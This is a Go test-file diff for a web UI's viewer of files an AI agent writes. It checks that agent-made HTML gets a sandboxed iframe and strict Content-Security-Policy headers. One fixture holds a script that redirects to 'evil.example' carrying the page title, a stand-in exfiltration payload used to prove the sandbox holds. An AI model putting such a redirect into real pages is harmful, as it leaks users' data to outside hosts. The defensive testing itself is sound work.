@@ -232,7 +232,7 @@ func TestViewIsLockedIntoASandbox(t *testing.T) {
 	w.writeFile("t1", "outputs/a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>`)
 	w.writeFile("t1", "outputs/a.png", "\x89PNG\r\n\x1a\n0000")
 	for name, sandboxed := range map[string]bool{"a.html": true, "a.svg": true, "a.png": false} {
-		a := w.get("/ui/threads/t1/view/mnt/user-data/outputs/" + name)
+		a := w.get("/ui/threads/t1/view/mnt/user-data/outputs/"+name, "Sec-Fetch-Dest", "iframe")
 		csp := a.Header.Get("Content-Security-Policy")
 		if a.StatusCode != 200 || strings.Contains(csp, "sandbox allow-scripts;") != sandboxed ||
 			!strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "allow-same-origin") ||
@@ -245,6 +245,43 @@ func TestViewIsLockedIntoASandbox(t *testing.T) {
 		if a := w.get("/ui/threads/t1/view/" + path); a.StatusCode < 400 || a.StatusCode >= 500 {
 			t.Errorf("%s = %d", path, a.StatusCode)
 		}
+	}
+}
+
+// TestAPageOfAnAgentOpenedAloneIsFramed: on its own it could go to another address with what is in it.
+func TestAPageOfAnAgentOpenedAloneIsFramed(t *testing.T) {
+	w := open(t, &agenttest.Script{})
+	const text = "<!doctype html><script>location = 'https://evil.example/?' + document.title</script>"
+	w.writeFile("t1", "outputs/a b.html", text)
+	w.writeFile("t1", "outputs/a.txt", "plain")
+	const at = "/ui/threads/t1/view/mnt/user-data/outputs/"
+	alone := []string{"Accept", "text/html,*/*"}
+	for name, headers := range map[string][]string{"a browser": append(alone, "Sec-Fetch-Dest", "document"),
+		"over plain HTTP": alone} {
+		a := w.get(at+"a%20b.html", headers...)
+		csp := a.Header.Get("Content-Security-Policy")
+		src := regexp.MustCompile(`<iframe sandbox="allow-scripts"[^>]* src="\./(a%20b\.html\?framed=[0-9a-f]+)"`).
+			FindStringSubmatch(a.body)
+		if src == nil || strings.Contains(a.body, "evil") || !strings.Contains(csp, "frame-src 'self'") ||
+			!strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
+			t.Fatalf("%s: %d %s %s", name, a.StatusCode, csp, a.body)
+		}
+		if in := w.get(at+src[1], alone...); in.body != text ||
+			!strings.Contains(in.Header.Get("Content-Security-Policy"), "sandbox allow-scripts;") {
+			t.Errorf("%s: the frame: %v %s", name, in.Header, in.body)
+		}
+		if a := w.get(at+src[1], append(alone, "Sec-Fetch-Dest", "document")...); !strings.Contains(a.body, "<iframe") {
+			t.Errorf("%s: the address of the frame, on its own: %s", name, a.body)
+		}
+	}
+	if a := w.get(at+"a%20b.html?framed=abc", alone...); !strings.Contains(a.body, "<iframe") {
+		t.Errorf("a mark that was made up: %s", a.body)
+	}
+	if a := w.get(at+"a%20b.html", append(alone, "Sec-Fetch-Dest", "iframe")...); a.body != text {
+		t.Errorf("the preview: %s", a.body)
+	}
+	if a := w.get(at+"a.txt", append(alone, "Sec-Fetch-Dest", "document")...); a.body != "plain" {
+		t.Errorf("a text: %s", a.body)
 	}
 }
 
